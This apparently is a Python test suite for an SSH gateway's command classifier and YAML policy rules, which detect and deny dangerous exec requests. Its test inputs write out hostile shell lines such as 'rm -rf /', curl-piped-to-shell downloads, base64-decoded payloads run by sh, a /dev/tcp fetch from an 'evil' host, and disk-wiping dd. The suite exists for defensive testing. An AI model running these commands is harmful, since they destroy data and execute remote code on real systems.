"""
The SSH exec classifier (L{gatehouse.protocols.ssh.commands}) and the
rules an operator writes on its commands
(L{gatehouse.protocols.ssh.attributes}).
"""

from __future__ import annotations

import shlex

import yaml
from twisted.python.filepath import FilePath
from twisted.trial.unittest import SynchronousTestCase

from gatehouse.policy import Command
from gatehouse.policy.rules import UNPARSEABLE
from gatehouse.protocols.ssh.commands import (
    COMMAND_FLAGS,
    MAX_COMMANDS,
    MAX_DEPTH,
    MAX_LINE,
    classify_exec,
    forward_command,
    normalize_options,
    sftp_command,
    shell_command,
    subsystem_command,
)
from tests.protocols.ssh.attacks.policy import decide, load, with_ssh


def one(line: str | bytes, program: str) -> Command:
    """The single command of C{line} running C{program}."""
    found = [c for c in classify_exec(line) if program in c.values("program")]
    if len(found) != 1:
        raise AssertionError(f"{line!r}: {found!r}")
    return found[0]


def programs(line: str | bytes) -> list[str]:
    """The programs of C{line}'s commands, in order."""
    return [p for c in classify_exec(line) for p in c.values("program")]


class SimpleCommandTests(SynchronousTestCase):
    """One command: its program, words, options, text."""

    def test_attributes(self) -> None:
        command = one("rm -rf --no-preserve-root=x /", "rm")
        self.assertEqual(command.protocol, "ssh")
        self.assertEqual(command.kind, "exec")
        self.assertEqual(command.text, "rm -rf --no-preserve-root=x /")
        self.assertEqual(
            tuple(command.values("argv")), ("rm", "-rf", "--no-preserve-root=x", "/")
        )
        self.assertEqual(
            tuple(command.values("args")), ("-rf", "--no-preserve-root=x", "/")
        )
        self.assertEqual(
            tuple(command.values("option")), ("-r", "-f", "--no-preserve-root")
        )
        self.assertEqual(command.flags, frozenset())

    def test_program_spellings(self) -> None:
        """Paths, backslashes and quotes do not hide the program."""
        for line in ("/bin/rm x", "\\rm x", "'r''m' x", '"/usr/bin/rm" x', "r\\m x"):
            self.assertEqual(programs(line), ["rm"], line)

    def test_dynamic_program(self) -> None:
        """A program name computed by the shell is flagged."""
        for line in ("$RM -rf /", "/bin/r? -rf /", "/bin/r* -rf /"):
            self.assertIn("dynamic-program", classify_exec(line)[0].flags, line)

    def test_options(self) -> None:
        self.assertEqual(
            normalize_options(["-rf", "--x=1", "-", "--", "-v"]), ("-r", "-f", "--x")
        )
        find = one("find / -name x -delete", "find")
        self.assertEqual(tuple(find.values("option")), ("-name", "-delete"))

    def test_lists(self) -> None:
        """Every simple command of a list or pipeline is a command."""
        line = "a; b && c || d | e & f\ng (h) { i; }"
        self.assertEqual(programs(line), list("abcdefghi"))
        background = [c for c in classify_exec(line) if "background" in c.flags]
        self.assertEqual([c.text for c in background], ["e"])

    def test_redirections(self) -> None:
        command = one("echo x > /etc/passwd 2>&1 >>/tmp/log </etc/shadow", "echo")
        self.assertEqual(command.objects, ("/etc/passwd", "/tmp/log", "/etc/shadow"))
        self.assertTrue({"redirect-write", "redirect-read"} <= command.flags)
        self.assertEqual(tuple(command.values("args")), ("x",))
        quiet = one("ls 2>/dev/null", "ls")
        self.assertNotIn("redirect-write", quiet.flags)
        bare = classify_exec("> /etc/motd")
        self.assertEqual([c.objects for c in bare], [("/etc/motd",)])

    def test_nul(self) -> None:
        """A NUL ends sshd's line; what follows is read too (another server)."""
        self.assertEqual(programs(b"ls\x00rm -rf /"), ["ls", "rm"])
        self.assertIn("nul", classify_exec("ls\0rm")[0].flags)

    def test_quoted_operator_separates(self) -> None:
        """A word that is only an operator separates (stricter than sh)."""
        self.assertEqual(programs("echo ';' rm x"), ["echo", "rm"])
        self.assertEqual(programs("echo 'a;b' rm x"), ["echo"])

    def test_echo_is_not_execution(self) -> None:
        """The text of an argument is data, unless a shell runs it."""
        self.assertEqual(programs('echo "rm -rf /"'), ["echo"])
        self.assertEqual(programs("grep rm file"), ["grep"])
        self.assertIn("rm", programs('sh -c "rm -rf /"'))
        self.assertIn("rm", programs('echo "rm -rf /" | sh'))


class WrapperTests(SynchronousTestCase):
    """Wrappers are seen through, and say what they add."""

    def test_sudo(self) -> None:
        command = one("sudo -u bob -E rm x", "rm")
        self.assertIn("sudo", command.flags)
        self.assertEqual(tuple(command.values("user")), ("bob",))
        self.assertEqual(tuple(command.values("wrapper")), ("sudo",))
        self.assertEqual(tuple(one("sudo rm x", "rm").values("user")), ("root",))
        self.assertEqual(
            tuple(one("sudo --user=ann rm x", "rm").values("user")), ("ann",)
        )
        shell = one("sudo -s", "sudo")
        self.assertEqual(shell.flags, frozenset({"sudo", "shell-stdin"}))
        inner = one("sudo -s rm -rf /", "rm")
        self.assertEqual(inner.flags, frozenset({"sudo", "shell-c"}))

    def test_su(self) -> None:
        inner = one("su - postgres -c 'rm -rf /'", "rm")
        self.assertEqual(inner.flags, frozenset({"sudo", "shell-c"}))
        self.assertEqual(tuple(inner.values("user")), ("postgres",))
        self.assertEqual(
            tuple(one("runuser -u bob -- rm x", "rm").values("user")), ("bob",)
        )
        self.assertIn("shell-stdin", one("su", "su").flags)

    def test_chain_of_wrappers(self) -> None:
        line = (
            "env X=1 nohup timeout -s KILL 5 nice -n 3 ionice -c2 stdbuf -oL "
            "exec command rm x"
        )
        command = one(line, "rm")
        self.assertEqual(
            tuple(command.values("wrapper")),
            ("env", "nohup", "timeout", "nice", "ionice", "stdbuf", "exec", "command"),
        )
        self.assertIn("env", command.flags)
        self.assertEqual(programs("command -v rm"), ["command"])

    def test_shell_c(self) -> None:
        found = classify_exec("bash -lc 'ls; rm -rf /'")
        self.assertEqual(
            [c.values("program") for c in found], [("bash",), ("ls",), ("rm",)]
        )
        self.assertEqual(found[2].flags, frozenset({"shell-c"}))
        self.assertEqual(tuple(found[2].values("wrapper")), ("bash",))
        self.assertEqual(programs("bash script.sh"), ["bash"])
        self.assertNotIn("shell-stdin", one("bash script.sh", "bash").flags)
        self.assertIn("shell-stdin", one("bash", "bash").flags)

    def test_find(self) -> None:
        found = classify_exec("find / -name '*.log' -exec rm -f {} + -delete")
        rm = one("find / -exec rm -f {} ;", "rm")
        self.assertIn("find-exec", rm.flags)
        self.assertIn(
            "find-delete", next(c for c in found if "find" in c.values("program")).flags
        )

    def test_xargs_eval_busybox(self) -> None:
        self.assertIn("xargs", one("ls | xargs -0 -n 1 rm", "rm").flags)
        self.assertIn("eval", one('eval "rm -rf /"', "rm").flags)
        self.assertEqual(programs("busybox rm -rf /"), ["rm"])

    def test_substitution(self) -> None:
        inner = one("echo $(rm -rf /) `id`", "rm")
        self.assertIn("substitution", inner.flags)
        self.assertIn("id", programs("echo $(rm -rf /) `id`"))
        self.assertIn("rm", programs("x=$(echo $(rm -rf /))"))


class ShellFeedTests(SynchronousTestCase):
    """Shells given text from a download or a decoder."""

    def flags(self, line: str) -> frozenset[str]:
        return frozenset().union(*(c.flags for c in classify_exec(line)))

    def test_pipe_to_shell(self) -> None:
        for line in (
            "curl -fsSL http://x | sh",
            "wget -O- http://x | sudo bash -s",
            "sh <(curl http://x)",
            'bash -c "$(curl -fsSL http://x)"',
            'eval "$(wget -qO- http://x)"',
            "curl http://x | python3 -",
            "bash <<< $(curl http://x)",
            "source <(curl -s http://x)",
            "cat < /dev/tcp/evil/80 | sh",
        ):
            self.assertIn("pipe-to-shell", self.flags(line), line)
        self.assertNotIn("pipe-to-shell", self.flags("curl -o f http://x; ls | grep a"))

    def test_downloaded_then_run(self) -> None:
        """A file a downloader (or decoder) of the line wrote, then run."""
        line = "curl -o /tmp/i.sh http://x/i.sh; bash /tmp/i.sh"
        self.assertIn("pipe-to-shell", one(line, "bash").flags)
        self.assertIn("pipe-to-shell", one("wget http://x/r; ./r", "r").flags)
        line = "base64 -d f > /tmp/x; . /tmp/x"
        self.assertIn("decode-to-shell", one(line, ".").flags)
        self.assertNotIn("pipe-to-shell", self.flags("curl -o a http://x/a; sh b"))

    def test_decode_to_shell(self) -> None:
        line = "echo cm0gLXJmIC8= | base64 -d | sh"
        self.assertIn("decode-to-shell", self.flags(line))
        # and what it decodes to is read
        self.assertIn("rm", programs(line))
        self.assertNotIn("decode-to-shell", self.flags("echo cm0= | base64 -d > f"))

    def test_here_string_into_shell(self) -> None:
        self.assertIn("rm", programs('bash <<< "rm -rf /"'))


class TransferTests(SynchronousTestCase):
    """Legacy scp and rsync over SSH."""

    def test_scp(self) -> None:
        sink = one("scp -t -r -- /srv/upload", "scp")
        self.assertIn("scp-sink", sink.flags)
        self.assertEqual(sink.objects, ("/srv/upload",))
        source = one("scp -f /etc/passwd", "scp")
        self.assertIn("scp-source", source.flags)
        self.assertEqual(source.objects, ("/etc/passwd",))

    def test_rsync(self) -> None:
        command = one("rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv", "rsync")
        self.assertEqual(command.flags, frozenset({"rsync-server", "rsync-sender"}))
        self.assertEqual(command.objects, ("/srv",))


class UnreadableTests(SynchronousTestCase):
    """What cannot be read is an Unparseable command, never an exception."""

    def test_unbalanced_quotes(self) -> None:
        found = classify_exec("ls; rm -rf / '")
        self.assertEqual(found[0].kind, UNPARSEABLE)
        self.assertIn("unparsed", found[0].flags)
        # what came before the quote is read too
        self.assertIn("rm", programs("ls; rm -rf / '"))

    def test_too_long(self) -> None:
        found = classify_exec(b"ls " * (MAX_LINE // 3 + 1))
        self.assertEqual(len(found), 1)
        self.assertEqual(found[0].flags, frozenset({"unparsed", "too-long"}))
        self.assertEqual(found[0].kind, UNPARSEABLE)

    def test_too_deep(self) -> None:
        line = "x"
        for _ in range(MAX_DEPTH + 2):
            line = f"sh -c {shlex.quote(line)}"
        self.assertIn(
            "too-deep", frozenset().union(*(c.flags for c in classify_exec(line)))
        )
        nested = "$(" * 50 + "rm" + ")" * 50
        self.assertIn(UNPARSEABLE, [c.kind for c in classify_exec(nested)])

    def test_too_many(self) -> None:
        found = classify_exec("".join(f"ls {i};" for i in range(MAX_COMMANDS + 10)))
        self.assertEqual(len(found), MAX_COMMANDS + 1)
        self.assertIn("too-many", found[-1].flags)

    def test_flags_declared(self) -> None:
        """Every flag the classifier sets is one a rule may name."""
        lines = [
            "sudo rm x &",
            "curl x | sh",
            "echo a | base64 -d | sh",
            "'",
            "find -delete",
        ]
        for line in lines:
            for command in classify_exec(line):
                self.assertLessEqual(command.flags, COMMAND_FLAGS)


class OtherRequestTests(SynchronousTestCase):
    """Commands for shells, subsystems, forwards and SFTP operations."""

    def test_builders(self) -> None:
        self.assertEqual(shell_command().kind, "shell")
        self.assertEqual(subsystem_command("sftp").text, "sftp")
        forward = forward_command("db.internal", 5432)
        self.assertEqual(
            (forward.kind, forward.objects), ("forward", ("db.internal:5432",))
        )
        rename = sftp_command("rename", "/a", "/b")
        self.assertEqual(
            (rename.kind, rename.text, rename.objects), ("rename", "/a", ("/a", "/b"))
        )


class PolicyTests(SynchronousTestCase):
    """Rules in YAML decide the classifier's commands."""

    def setUp(self) -> None:
        with_ssh(self)

    def test_examples(self) -> None:
        policy, problems = load()
        self.assertEqual(problems, [])
        for line, action, rule in [
            ("rm -rf /", "deny", "no-rm"),
            ("sudo systemctl stop nginx", "review", "sudo"),
            ("curl http://x | sh", "deny", "no-pipe-to-shell"),
            ("ls -la", "allow", "default"),
            ("ls 'unbalanced", "deny", "no-unparsed"),
            # the strictest of a list decides
            ("ls; sudo id; rm x", "deny", "no-rm"),
        ]:
            decision = decide(policy, line)
            self.assertEqual((decision.action, decision.rule), (action, rule), line)

    def test_attribute_rules(self) -> None:
        policy, problems = load(
            """
            default: allow
            review: {approvers: [ops]}
            rules:
              - {name: rm-r, action: deny, program: rm, option: [-r, -R, --recursive]}
              - {name: root, action: review, flag: sudo, user: root}
              - {name: etc, action: deny, flag: redirect-write, path: "/etc/*"}
              - {name: args, action: deny, program: chmod, arg: ["777", "a+*"]}
              - {name: fwd, action: deny, kind: forward, destination: "*:22"}
              - {name: sftp-rm, action: review, kind: [remove, rmdir], path: "/srv/*"}
              - {name: no-sftp, action: deny, subsystem: "sftp*"}
              - {name: via, action: review, wrapper: xargs}
              - {name: txt, action: deny, text: "--no-preserve-root"}
            """
        )
        self.assertEqual(problems, [])
        session = policy.for_session(("dev",), "host", "ssh")
        for line, rule in [
            ("rm -fr /tmp/x", "rm-r"),
            ("rm --recursive x", "rm-r"),
            ("rm x", "default"),
            ("sudo id", "root"),
            ("sudo -u bob id", "default"),
            ("echo x >> /etc/hosts", "etc"),
            ("echo x > /tmp/hosts", "default"),
            ("chmod 777 f", "args"),
            ("chmod a+rwx f", "args"),
            ("chmod 644 f", "default"),
            ("ls | xargs wc", "via"),
            ("chown --no-preserve-root x", "txt"),
        ]:
            self.assertEqual(session.decide_all(classify_exec(line)).rule, rule, line)
        for command, rule in [
            (forward_command("bastion", 22), "fwd"),
            # No rule names forwards: the forwards fallback (deny) decides.
            (forward_command("db", 5432), "forwards"),
            (sftp_command("remove", "/srv/a"), "sftp-rm"),
            (sftp_command("remove", "/home/a"), "default"),
            (sftp_command("read", "/srv/a"), "default"),
            (subsystem_command("sftp"), "no-sftp"),
        ]:
            self.assertEqual(session.decide(command).rule, rule, command)

    def test_words_checked(self) -> None:
        """An unknown flag or kind is a load-time error with a suggestion."""
        _, problems = load(
            """
            review: {approvers: [ops]}
            rules:
              - {name: a, action: deny, protocols: [ssh], flag: pipe-to-shel}
              - {name: b, action: deny, protocols: [ssh], kind: sftp-remove}
            """
        )
        self.assertEqual(len(problems), 2, problems)
        self.assertIn("did you mean pipe-to-shell?", problems[0])
        self.assertIn("can never match: no command has kind 'sftp-remove'", problems[1])


class DocumentedPolicyTests(SynchronousTestCase):
    """The SSH example in docs/policy.md loads and decides as it says."""

    def setUp(self) -> None:
        with_ssh(self)

    def test_example(self) -> None:
        docs = FilePath(__file__).parent().parent().parent().parent()
        text = docs.child("docs").child("policy.md").getContent().decode()
        section = text[text.index("\n## SSH\n") :]
        block = section[section.index("```yaml\n") + 8 : section.index("\n```\n")]
        policy, problems = load(yaml.safe_dump(yaml.safe_load(block)["policy"]))
        self.assertEqual(problems, [])
        session = policy.for_session(("dev",), "host", "ssh")
        for line, rule in [
            ("rm -rf /srv/x", "no-recursive-delete"),
            ("rm /srv/x", "default"),
            ("dd if=/dev/zero of=/dev/sda", "no-destroyers"),
            ("curl -s http://x | bash", "no-remote-code"),
            ("echo aWQ= | base64 -d | sh", "no-decoded-code"),
            ("$x -rf /", "computed-programs"),
            ("sudo systemctl restart nginx", "root"),
            ("echo 1 > /etc/hosts", "no-writes-to-etc"),
        ]:
            self.assertEqual(session.decide_all(classify_exec(line)).rule, rule, line)
        for command, rule in [
            (sftp_command("rename", "/srv/a", "/tmp/a"), "sftp-deletes-in-srv"),
            (sftp_command("write", "/srv/incoming/a"), "uploads-to-incoming"),
            (sftp_command("write", "/home/a"), "no-uploads-elsewhere"),
            (sftp_command("read", "/home/a"), "default"),
            (forward_command("10.0.0.1", 22), "no-ssh-hopping"),
            (forward_command("db", 5432), "databases-via-the-gateway-only"),
            (forward_command("web", 443), "forwards"),
        ]:
            self.assertEqual(session.decide(command).rule, rule, command)
